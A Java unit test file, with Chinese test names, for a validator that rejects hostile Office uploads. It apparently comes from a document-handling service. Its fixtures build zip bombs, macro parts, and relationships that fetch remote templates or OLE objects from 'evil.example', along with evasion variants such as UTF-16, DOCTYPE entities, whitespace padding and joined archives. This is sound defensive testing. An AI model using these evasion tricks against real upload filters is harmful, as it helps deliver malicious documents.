package org.jiesu.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.jiesu.shared.BadInput;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@DisplayName("上传的 Office 文件")
class OfficeFileTest {

    private static final String RELATIONS = "word/_rels/settings.xml.rels";
    private static final String RELATION = "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.example/%s\""
            + " Target=\"%s\" TargetMode=\"%s\"/></Relationships>";

    @Test
    @DisplayName("普通文档和不是压缩包的文件可以上传")
    void plainFiles() {
        assertThatCode(() -> OfficeFile.check(zip("word/document.xml", 1))).doesNotThrowAnyException();
        assertThatCode(() -> OfficeFile.check(new byte[] {1, 2, 3})).doesNotThrowAnyException();
    }

    @Test
    @DisplayName("压缩炸弹、宏、损坏的压缩包都拒绝")
    void hostileFiles() throws IOException {
        byte[] bomb = zip("word/document.xml", 301);
        assertThatThrownBy(() -> OfficeFile.check(bomb))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("过大");
        byte[] macro = zip("word/vbaProject.bin", 1);
        assertThatThrownBy(() -> OfficeFile.check(macro))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("宏");
        byte[] broken = Arrays.copyOf(zip("word/document.xml", 1), 60);
        assertThatThrownBy(() -> OfficeFile.check(broken))
                .isInstanceOf(BadInput.class)
                .hasMessageContaining("损坏");
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate, External, false",
        "oleObject, External, false",
        "image, External, false",
        "externalLinkPath, External, false",
        "oleObject, Ext&#101;rnal, false",
        "image, Internal, true",
        "hyperlink, External, true"
    })
    @DisplayName("打开时会从别处取模板、对象、图片的文件拒绝；要人去点的链接不算")
    void whatFetchesSomething(String type, String mode, boolean taken) throws IOException {
        byte[] file = office(RELATIONS, RELATION.formatted(type, "http://evil.example/x", mode));
        if (taken) {
            assertThatCode(() -> OfficeFile.check(file)).doesNotThrowAnyException();
        } else {
            assertThatThrownBy(() -> OfficeFile.check(file)).hasMessageContaining("从别处取内容");
        }
    }

    @Test
    @DisplayName("同样的文件换个写法也拒绝：地址像链接、地址含“>”、文件名大写、前面垫满空格、UTF-16、DOCTYPE、接在另一个压缩包后面")
    void whatFetchesSomethingInDisguise() throws IOException {
        String plain = RELATION.formatted("attachedTemplate", "http://evil.example/x", "External");
        String padded = plain.replaceFirst("><", ">" + " ".repeat(1024 * 1024) + "<");
        List<byte[]> disguises = List.of(
                office(RELATIONS, RELATION.formatted("attachedTemplate", "http://evil.example/hyperlink", "External")),
                office(RELATIONS, RELATION.formatted("attachedTemplate", "http://evil.example/a>b", "External")),
                office(RELATIONS.replace("rels", "RELS"), plain),
                office(RELATIONS, padded),
                office(RELATIONS, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + plain, StandardCharsets.UTF_16),
                office(RELATIONS, "<!DOCTYPE x [<!ENTITY e \"External\">]>" + plain.replace("\"External", "\"&e;")),
                joined(office(RELATIONS, "<Relationships/>"), office(RELATIONS, plain)),
                joined(office(RELATIONS, "<Relationships/>"), office("word/vbaProject.bin", "x")));
        assertThat(disguises).allSatisfy(file -> assertThatThrownBy(() -> OfficeFile.check(file))
                .isInstanceOf(BadInput.class));
    }

    @Test
    @DisplayName("宏换了文件名也拒绝；随便一个压缩包不因为叫 .docx 就成为文档")
    void whatOnlyLooksLikeADocument() throws IOException {
        byte[] renamed = office(RELATIONS, RELATION.formatted("vbaProject", "harmless.bin", "Internal"));
        assertThatThrownBy(() -> OfficeFile.check(renamed)).hasMessageContaining("宏");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("program.exe"));
        }
        assertThatThrownBy(() -> OfficeFile.check(out.toByteArray())).isInstanceOf(BadInput.class);
    }

    @Test
    @DisplayName("旧格式（.doc、.xls）里的宏也拒绝")
    void oldMacros() throws IOException {
        assertThatCode(() -> OfficeFile.check(old("WordDocument"))).doesNotThrowAnyException();
        assertThatThrownBy(() -> OfficeFile.check(old("_VBA_PROJECT_CUR"))).hasMessageContaining("宏");
    }

    private static byte[] old(String part) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (POIFSFileSystem file = new POIFSFileSystem()) {
            file.getRoot().createDirectory(part);
            file.writeFilesystem(out);
        }
        return out.toByteArray();
    }

    private static byte[] zip(String entry, int megabytes) throws IOException {
        return office(entry, "\0".repeat(megabytes * 1024 * 1024));
    }

    private static byte[] office(String entry, String content) throws IOException {
        return office(entry, content, StandardCharsets.UTF_8);
    }

    private static byte[] office(String entry, String content, Charset charset) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.putNextEntry(new ZipEntry(entry));
            zip.write(content.getBytes(charset));
        }
        return out.toByteArray();
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
